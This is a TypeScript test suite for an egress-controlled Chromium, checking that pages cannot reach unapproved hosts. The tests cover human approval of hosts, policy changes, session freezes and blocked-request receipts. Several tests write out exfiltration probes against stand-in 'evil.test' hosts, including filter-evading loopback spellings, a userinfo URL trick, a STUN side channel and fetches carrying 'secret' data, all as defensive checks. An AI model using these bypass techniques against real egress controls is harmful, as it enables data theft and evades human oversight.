// A guarded Chromium: what its pages send reaches only servers that the egress rules allow. `egress.deep.ts` has all techniques.

import { connect } from 'node:net'
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest'
import { policyOf as policyIn } from '@tollgate/kernel'
import { activatePolicy, setFreeze } from '@tollgate/kernel/admin'
import { policyOf } from '../../../kernel/test/rig.ts'
import { textOf } from '../../src/browser/cdp.ts'
import { findChromium } from '../../src/browser/chromium.ts'
import {
  openTestTab,
  PATIENCE,
  startRig,
  startUdpCounter,
  tryTechnique,
  type EgressRig,
} from './egress-rig.ts'
import { COMMON } from './egress-techniques.ts'

const path = findChromium()

describe.skipIf(path === undefined)('a guarded browser', () => {
  let rig: EgressRig
  beforeAll(async () => {
    rig = await startRig(path ?? '')
  })
  afterAll(async () => {
    expect({ connections: rig.evil.connections, paths: rig.evil.paths }).toEqual({
      connections: 0,
      paths: [],
    })
    await rig.close()
  })

  const fetched = (url: string): Promise<unknown> =>
    rig.tab.evaluate(`fetch(${JSON.stringify(url)}).then((r) => r.status, () => 'failed')`)

  test.each(COMMON.map((each) => [each.name, each] as const))('sends nothing by %s', async (_, technique) => {
    await tryTechnique(rig, technique)
  })

  test('sends nothing to an address in any spelling, and nothing to another scheme or port', async () => {
    const { evil, good, tab, origin } = rig
    await tab.open(`${origin}/page`)
    for (const host of [
      '127.0.0.1',
      'localhost',
      '2130706433',
      '0x7f.1',
      '127.1',
      '[::1]',
      '[::ffff:127.0.0.1]',
      '0',
    ]) {
      for (const scheme of ['http', 'https']) {
        expect(await fetched(`${scheme}://${host}:${evil.port}/`), host).toBe('failed')
      }
    }
    expect(await fetched(`http://127.0.0.1:${good.port}/`)).toBe(200)
    expect(await fetched(`http://evil.test.:${good.port}/`)).toBe('failed')
    expect(await tab.open(`http://allowed.test:${good.port}@evil.test:${evil.port}/`)).toContain('net::ERR_')
  })

  test('sends no datagram to a STUN server', async () => {
    const udp = await startUdpCounter()
    await rig.tab.open(`${rig.origin}/page`)
    const gathered = await rig.tab.evaluate(`new Promise((done) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udp.port}' }] })
      peer.createDataChannel('d')
      peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && done('complete')
      peer.createOffer().then((offer) => peer.setLocalDescription(offer))
    })`)
    expect({ gathered, packets: udp.packets() }).toEqual({ gathered: 'complete', packets: 0 })
    udp.close()
  })

  test('sends nothing around the proxy from another browser context', async () => {
    const { browserContextId } = await rig.browser.cdp.send('Target.createBrowserContext')
    const tab = await openTestTab(rig.browser.cdp, textOf(browserContextId))
    expect(await tab.open(`http://evil.test:${rig.evil.port}/`)).toContain('net::ERR_')
    expect(await tab.open(`${rig.origin}/page`)).toBe('')
    await rig.browser.cdp.send('Target.disposeBrowserContext', { browserContextId })
  })

  test('reaches the site of the page, if the page is in `domains` and not merely named', async () => {
    const { tab, origin, good } = rig
    await tab.open(`${origin}/page`)
    expect(await fetched(`http://img.allowed.test:${good.port}/own`)).toBe(200)
    expect(await fetched(`http://img.allowed.test:${rig.evil.port}/own`)).toBe('failed')
    await tab.open('about:blank')
    expect(await tab.open(`http://img.allowed.test:${good.port}/own`)).toContain('net::ERR_')
    // A page that was refused is not a page of its host.
    expect(await tab.open(`http://img.allowed.test:${good.port}/own`)).toContain('net::ERR_')
  })

  test('does not reach the site of a page that its host did not send', async () => {
    const { tab, good } = rig
    const asked = `http://asked.test:${good.port}/page`
    const fresh = await openTestTab(rig.browser.cdp)
    await tab.open('about:blank')
    await fresh.invent(asked)
    expect(await fresh.open(asked)).toBe('')
    expect(await fresh.evaluate('document.body.innerText')).toBe('invented')
    expect(await fresh.evaluate(`fetch('/x').then(String, () => 'failed')`)).toBe('failed')
    await fresh.open('about:blank')
  })

  test('opens a host under `ask` only for a call that a person approved', async () => {
    const { tab, good, egress, origin } = rig
    const asked = `http://asked.test:${good.port}/page`
    await tab.open(`${origin}/page`)
    expect(await tab.open(asked)).toContain('net::ERR_')
    await tab.open(`${origin}/page`)
    const end = egress.approve(asked, rig.policy())
    expect(await tab.open(asked)).toBe('')
    end()
    // Its own site, while it is open, also on the next page of it.
    expect(await fetched(asked)).toBe(200)
    expect(await tab.open(`${asked}/next`)).toBe('')
    expect(await fetched(asked)).toBe(200)
    await tab.open(`${origin}/page`)
    expect(await tab.open(asked)).toContain('net::ERR_')
  })

  test('does not remember an approval for a later page of the host', async () => {
    const { tab, egress, origin, good } = rig
    const asked = `http://asked.test:${good.port}/page`
    const end = egress.approve(asked, rig.policy())
    expect(await tab.open(asked)).toBe('')
    end()
    await tab.open(`${origin}/page`)
    // As a service worker that the page has left behind does it.
    await tab.invent(asked)
    expect(await tab.open(asked)).toBe('')
    expect(await fetched('/x')).toBe('failed')
    await tab.open('about:blank')
  })

  test('forgets an approval when another policy is activated', async () => {
    const { tab, egress, good, rig: ledger } = rig
    const asked = `http://asked.test:${good.port}/page`
    const before = rig.policy()
    const end = egress.approve(asked, before)
    expect(await tab.open(asked)).toBe('')
    expect(await fetched(asked)).toBe(200)
    const { text } = policyIn(ledger.kernel, 'default')
    await activatePolicy(ledger.kernel, policyOf(`${text}# changed\n`), 'user:olga')
    expect(await fetched(asked)).toBe('failed')
    // The running call was approved under the policy before.
    expect(await tab.open(asked)).toContain('net::ERR_')
    end()
    const late = egress.approve(asked, before)
    expect(await tab.open(asked)).toContain('net::ERR_')
    late()
    await tab.open('about:blank')
  })

  test('cannot be used by another process', async () => {
    const answer = await new Promise((done) => {
      const socket = connect(rig.port, '127.0.0.1', () => {
        socket.write(`GET ${rig.origin}/hit/foreign HTTP/1.1\r\nhost: allowed.test\r\n\r\n`)
      })
      let text = ''
      socket.on('data', (chunk) => void (text += chunk.toString()))
      socket.on('error', () => undefined)
      socket.on('close', () => done(text))
    })
    expect(answer).toBe('')
    expect(rig.good.paths).not.toContain('/hit/foreign')
  })

  test('has one receipt for the blocked requests of a page, with hosts and types and nothing else', async () => {
    const { tab, origin, evil, egress, rig: ledger } = rig
    // The receipts of the tests above are written first.
    for (let i = 0; i < 3; i++) ledger.host.advance(61_000)
    await tab.open(`${origin}/page`)
    const count = egress.count()
    await tab.evaluate(
      `Promise.all(Array.from({ length: 25 }, (_, i) => fetch('http://h' + i + '.evil.test:${evil.port}/secret?word').catch(String)))`,
    )
    // A request on a connection that was used before is repeated by Chromium, and counts again.
    expect(count.now().requests).toBeGreaterThanOrEqual(25)
    expect(count.now().hosts).toHaveLength(20)
    count.end()
    await tab.open(`${origin}/page`)
    await vi.waitFor(() => {
      ledger.host.advance(1_000)
      const receipts = rig.blocked().filter(({ hosts }) => hosts.some((host) => host.startsWith('h1.')))
      expect(receipts).toMatchObject([{ principal: 'agent:ci', session: 's1', pages: 1, types: ['fetch'] }])
      expect(receipts[0]?.page_host).toBe(`allowed.test:${rig.good.port}`)
      expect(receipts[0]?.hosts).toHaveLength(20)
      expect(receipts[0]?.more).toBeGreaterThanOrEqual(5)
    }, PATIENCE)
    expect(JSON.stringify(rig.blocked())).not.toContain('secret')
  })

  test('loses all connections when its session is frozen, and may connect after it', async () => {
    const { tab, origin, rig: ledger } = rig
    await tab.open(`${origin}/page`)
    const lost = tab.evaluate(`new Promise((done) => {
      const stream = new EventSource('/stream')
      stream.onopen = () => { window.open1 = true }
      stream.onerror = () => { stream.close(); done('lost') }
    })`)
    await vi.waitFor(async () => expect(await tab.evaluate('window.open1')).toBe(true), PATIENCE)
    const freeze = (frozen: boolean): Promise<unknown> =>
      setFreeze(ledger.kernel, { scope: 'session', target: 's1', frozen, by: 'user:olga' })
    await freeze(true)
    expect(await lost).toBe('lost')
    expect(await fetched('/page')).toBe('failed')
    await freeze(false)
    expect(await fetched('/page')).toBe(200)
  })

  test('is judged by a new policy from the next connection on', async () => {
    const { tab, origin, rig: ledger } = rig
    await tab.open(`${origin}/page`)
    expect(await fetched('/page')).toBe(200)
    await activatePolicy(ledger.kernel, policyOf('rules: []'), 'user:olga')
    expect(await fetched('/page')).toBe('failed')
  })
})
